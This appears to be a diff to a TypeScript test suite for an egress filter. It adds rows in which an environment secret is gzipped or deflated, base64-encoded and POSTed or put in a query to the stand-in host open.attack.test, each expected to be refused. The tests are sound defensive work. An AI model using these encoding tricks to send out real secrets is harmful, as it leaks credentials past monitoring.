@@ -1,4 +1,5 @@
 // The table of attempts against egress: what is sent, and which refusal must come of it. Where it is sent from is not its matter.
+import { deflateSync, gzipSync } from "node:zlib";
 import {
   type Attempt,
   type EgressAttack,
@@ -222,4 +223,23 @@ export const CREDENTIALS: readonly Row[] = [
   ["git push over https, the pack", within("git", request("POST", "/r.git/git-receive-pack", "git.attack.test", ["Content-Type: application/x-git-receive-pack-request"], "0000")), { status: 403, reason: "git-push-refused" }],
   ["git push, its name encoded", within("git", request("POST", "/r.git/git%2Dreceive-pack", "git.attack.test", [], "0000")), { status: 403, reason: "git-push-refused" }],
   ["git fetch where it was not granted", inside("open", "/r.git/info/refs?service=git-upload-pack"), { status: 403, reason: "git-fetch-refused" }],
+];
+
+/** The canary of the bottle, packed and written as text. */
+function packedCanary({ env }: EgressAttack, pack: (text: string) => Buffer): string {
+  const [, canary = ""] = Object.entries(env).find(([name]) => name.endsWith("_SECRET")) ?? [];
+  if (canary.length < 24) throw new Error("the bottle has no canary");
+  return pack(`some words and ${canary} and more`).toString("base64url");
+}
+const twice = (text: string): Buffer => Buffer.concat([gzipSync("words"), deflateSync(text)]);
+const FOUND: Expected = { status: 403, reason: "secret-found" };
+const sent = (body: string): Attempt =>
+  within("open", request("POST", "/", "open.attack.test", [], body));
+
+// biome-ignore format: one attempt a line
+export const PACKED: readonly Row[] = [
+  ["gzip in base64 in JSON", (it) => sent(`{"a":"${packedCanary(it, gzipSync)}"}`), FOUND],
+  ["zlib in base64", (it) => sent(packedCanary(it, deflateSync)), FOUND],
+  ["a second stream behind the first, in base64", (it) => sent(packedCanary(it, twice)), FOUND],
+  ["gzip in base64 in the query", (it) => inside("open", `/?q=${packedCanary(it, gzipSync)}`), FOUND],
 ];
